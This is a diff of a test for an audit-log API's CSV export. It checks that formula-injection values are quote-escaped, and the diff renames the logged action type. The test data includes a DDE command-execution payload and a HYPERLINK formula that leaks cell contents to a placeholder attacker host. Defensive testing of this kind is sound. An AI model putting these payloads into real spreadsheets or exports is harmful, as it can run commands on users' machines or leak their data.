@@ -99,17 +99,17 @@ describe("audit log API", () => {
     const attacker = { id: created.userId };
     writeAuditLog(server.db, {
       userId: attacker.id,
-      actionType: "formula_probe",
+      actionType: "user_login_attempt",
       result: "failure",
       ipAddress: "+55",
       userAgent: "=cmd|' /C calc'!A0",
       details: { tab: "\tx" },
     });
-    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "@SUM(1+1)" });
-    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "-2+3" });
-    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "\tcalc" });
-    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "\rcalc" });
-    const csv = await (await get("/api/audit-logs/export.csv?action=formula_probe", who.admin!)).text();
+    writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "@SUM(1+1)" });
+    writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "-2+3" });
+    writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "\tcalc" });
+    writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "\rcalc" });
+    const csv = await (await get("/api/audit-logs/export.csv?action=user_login_attempt", who.admin!)).text();
     // Every cell that a spreadsheet would evaluate starts with a quote inside a quoted field.
     expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`);
